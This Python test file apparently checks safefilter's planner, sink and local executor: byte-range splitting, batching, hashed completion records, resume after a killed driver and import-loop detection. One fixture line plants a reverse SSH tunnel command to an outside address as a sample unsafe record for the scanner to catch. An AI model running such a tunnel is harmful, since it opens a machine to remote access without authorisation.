"""Planner, sink and local executor: work units, byte ranges, completion records, resume per unit, no import loop.

Ray's side of the same guarantees (byte-identical to local, killed workers) is in test_ray.py.
"""
from __future__ import annotations

import ast
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

from safefilter.config import load_config
from safefilter.executors import planner
from safefilter.executors.planner import WorkUnit, cut_batches, plan_units, read_unit
from safefilter.executors.sink import UnitOptions, process_unit
from safefilter.io import read_file
from safefilter.resume import TEST_DELAY_ENV
from safefilter.run import build_scanner, run

from conftest import bash, tool, traj

REPO = Path(__file__).resolve().parents[1]
MINI = str(Path(__file__).parent / "data" / "mini_pack.yaml")
KINDS = ("clean", "unsafe", "invalid")


def write_big(path: Path, n: int = 300) -> Path:
    """A JSONL file with clean, unsafe, id-less, blank and broken lines spread through it."""
    lines = []
    for i in range(n):
        if i % 37 == 5:
            lines.append('{"broken": ')
        elif i % 41 == 7:
            lines.append("")
        elif i % 23 == 3:
            lines.append(json.dumps(traj(bash("ssh -fNR 9000:localhost:22 u@203.0.113.9", "a"), rid=f"t{i}")))
        else:
            record = traj(bash(f"ls dir{i}", "a"), tool("x" * (i % 90), "a"), rid=f"c{i}")
            if i % 11 == 0:
                record.pop("id")
            lines.append(json.dumps(record))
    path.write_text("\n".join(lines) + "\n")
    return path


def config_for(inputs, out: Path, *overrides: str) -> dict:
    config, _ = load_config(None, [f"input={inputs}", f"output={out}", f"rules.packs=[{MINI}]", "progress=false",
                                   "executor=local", *overrides])
    return config


def outputs(run_dir: Path) -> dict[str, bytes]:
    return {str(p.relative_to(run_dir)): p.read_bytes() for kind in KINDS
            for p in sorted((run_dir / kind).glob("*")) if p.is_file()}


def lines_of(run_dir: Path, kind: str) -> list[bytes]:
    return [line for p in sorted((run_dir / kind).glob("part-*")) for line in p.read_bytes().splitlines()]


def test_ranges_tile_a_file_and_read_what_a_whole_file_read_gives(tmp_path):
    path = write_big(tmp_path / "big.jsonl")
    size = path.stat().st_size
    whole = [(r.line, r.raw, r.error) for r in read_file(path)]
    for unit_bytes in (size // 7, 997, 64):
        units = plan_units([path], unit_bytes=unit_bytes)
        assert len(units) == -(-size // unit_bytes) and [u.index for u in units] == list(range(len(units)))
        assert units[0].start == 0 and units[-1].end == size
        assert all(a.end == b.start for a, b in zip(units, units[1:]))
        got = [(r.line, r.raw, r.error) for u in units for r in read_unit(u)]
        assert got == whole


def test_only_large_plain_jsonl_is_split_and_units_follow_input_order(tmp_path):
    big = write_big(tmp_path / "a.jsonl")
    gz = tmp_path / "b.jsonl.gz"
    import gzip

    gz.write_bytes(gzip.compress(big.read_bytes(), mtime=0))
    small = tmp_path / "c.jsonl"
    small.write_text(json.dumps(traj(bash("ls"))) + "\n")
    units = plan_units([big, gz, small], unit_bytes=4096)
    assert [u.file_index for u in units] == [0] * len([u for u in units if u.file_index == 0]) + [1, 2]
    assert units[-2].start is None and units[-1].start is None  # gzip cannot be entered mid-stream; small: whole
    assert [u.label for u in units[-2:]] == ["b.jsonl.gz", "c.jsonl"]
    assert WorkUnit.from_dict(json.loads(json.dumps(units[1].to_dict()))) == units[1]


def test_batches_never_cross_a_shard_end_and_keep_unreadable_records_in_place(tmp_path):
    items = list(read_file(write_big(tmp_path / "x.jsonl", 60)))
    cut = list(cut_batches(items, batch_size=4, per_shard=10))
    assert [i for _, b in cut for i in b] == items
    assert all(sum(i.error is None for i in b) <= 4 for _, b in cut)
    for part in {p for p, _ in cut}:
        assert sum(len(b) for p, b in cut if p == part) == (10 if part < len(items) // 10 else len(items) % 10 or 10)


def test_a_split_file_gives_the_records_a_whole_file_run_gives(tmp_path, monkeypatch):
    path = write_big(tmp_path / "big.jsonl")
    whole = run(config_for(path, tmp_path / "whole", "max_records_per_shard=40", "batch_size=5"))
    monkeypatch.setattr(planner, "UNIT_BYTES", -(-path.stat().st_size // 5))  # five ranges
    split = run(config_for(path, tmp_path / "split", "max_records_per_shard=40", "batch_size=5"))
    assert split.counts == whole.counts and whole.counts["invalid"] > 0 and whole.counts["unsafe"] > 0
    for kind in KINDS:  # the same lines in the same order, only cut into other shards
        assert lines_of(tmp_path / "split", kind) == lines_of(tmp_path / "whole", kind)
    manifest = json.loads((tmp_path / "split" / "manifest.json").read_text())
    assert [s["unit"]["index"] for s in manifest["shards"]] == list(range(5))
    for shard in manifest["shards"]:  # each unit's completion record hashes the files it wrote
        for rel, digest in shard["sha256"].items():
            import hashlib

            assert hashlib.sha256((tmp_path / "split" / rel).read_bytes()).hexdigest() == digest


def test_a_unit_redone_after_a_killed_attempt_replaces_its_leftovers(tmp_path):
    path = write_big(tmp_path / "x.jsonl", 40)
    root = tmp_path / "run"
    (root / "clean").mkdir(parents=True)
    (root / "clean" / ".part-00000-00000.jsonl.999.tmp").write_bytes(b"half a line")
    (root / "clean" / "part-00000-00007.jsonl").write_bytes(b"a stale part")
    (root / "clean" / "part-00001-00000.jsonl").write_bytes(b"another unit's: kept")
    scanner = build_scanner(config_for(path, root))
    record = process_unit(WorkUnit(0, 0, str(path), "x.jsonl"), scanner, UnitOptions(str(root)))
    names = sorted(os.listdir(root / "clean"))
    assert names == ["part-00000-00000.jsonl", "part-00001-00000.jsonl"]
    assert record["shard"]["outputs"]["clean"] == ["clean/part-00000-00000.jsonl"]
    saved = json.loads((root / "_state" / "input-00000.json").read_text())
    assert saved["shard"]["counts"] == record["shard"]["counts"]


def test_driver_killed_mid_run_resumes_per_unit(tmp_path):
    """Kill the driver while a split file is half done: finished units are kept, the rest redone, same bytes."""
    (tmp_path / "in").mkdir()
    path = write_big(tmp_path / "in" / "big.jsonl", 400)
    unit_bytes = path.stat().st_size // 6
    out = tmp_path / "run"
    config = tmp_path / "c.yaml"
    config.write_text("progress: false\n")
    args = ["run", "--config", str(config), "--input", str(path), "--output", str(out), "--executor", "local",
            "--set", f"rules.packs=[{MINI}]", "--set", "batch_size=4"]
    code = (f"import sys; import safefilter.executors.planner as p; p.UNIT_BYTES = {unit_bytes}; "
            f"from safefilter.cli import main; sys.exit(main({args!r}))")
    proc = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, TEST_DELAY_ENV: "0.05"},
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    state = out / "_state"
    deadline = time.monotonic() + 60
    while proc.poll() is None and time.monotonic() < deadline and len(list(state.glob("input-*.json"))) < 2:
        time.sleep(0.01)
    proc.send_signal(signal.SIGKILL)
    _, err = proc.communicate()
    assert proc.returncode == -signal.SIGKILL, err.decode()[-2000:]
    finished = sorted(state.glob("input-*.json"))
    assert 2 <= len(finished) < 6
    kept = {p: p.stat().st_mtime_ns for kind in KINDS for p in (out / kind).glob("part-0000[01]-*")}
    assert kept
    # the saved plan decides the units, not UNIT_BYTES in this process
    summary = run(config_for(path, out, "batch_size=4"), resume=True)
    assert {p: p.stat().st_mtime_ns for p in kept} == kept
    straight = tmp_path / "straight"
    import safefilter.executors.planner as p

    old, p.UNIT_BYTES = p.UNIT_BYTES, unit_bytes
    try:
        again = run(config_for(path, straight, "batch_size=4"))
    finally:
        p.UNIT_BYTES = old
    assert outputs(out) == outputs(straight) and summary.counts == again.counts
    assert not state.exists() and not list(out.rglob("*.tmp"))


def _imports(path: Path, package: str) -> set[str]:
    """safefilter modules that `path` (in `package`) imports anywhere, functions included, as dotted names."""
    found = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.ImportFrom):
            parts = package.split(".")
            base = parts[:len(parts) - node.level + 1] if node.level else []
            mod = ".".join(base + ([node.module] if node.module else []))
            if mod.startswith("safefilter"):
                found.add(mod)
                found.update(f"{mod}.{a.name}" for a in node.names)
        elif isinstance(node, ast.Import):
            found.update(a.name for a in node.names if a.name.startswith("safefilter"))
    return found


def test_no_import_loop_between_the_driver_the_executors_and_the_datasets_adapter():
    root = REPO / "safefilter"
    modules = {}
    for path in root.rglob("*.py"):
        rel = path.relative_to(REPO).with_suffix("")
        name = ".".join(rel.parts[:-1] if rel.name == "__init__" else rel.parts)
        modules[name] = _imports(path, name if rel.name == "__init__" else name.rsplit(".", 1)[0])
    graph = {m: {d for d in deps if d in modules and d != m} for m, deps in modules.items()}
    watched = {"safefilter.run", "safefilter.ray_run", "safefilter.hf"} | {m for m in modules
                                                                         if m.startswith("safefilter.executors")}

    def reaches(start: str, target: str) -> bool:
        seen, stack = set(), list(graph[start])
        while stack:
            m = stack.pop()
            if m == target:
                return True
            if m not in seen:
                seen.add(m)
                stack.extend(graph.get(m, ()))
        return False

    loops = sorted(m for m in watched if reaches(m, m))
    assert not loops, f"modules in an import loop: {loops}"
    assert not any(reaches(m, "safefilter.run") for m in watched if m.startswith("safefilter.executors"))
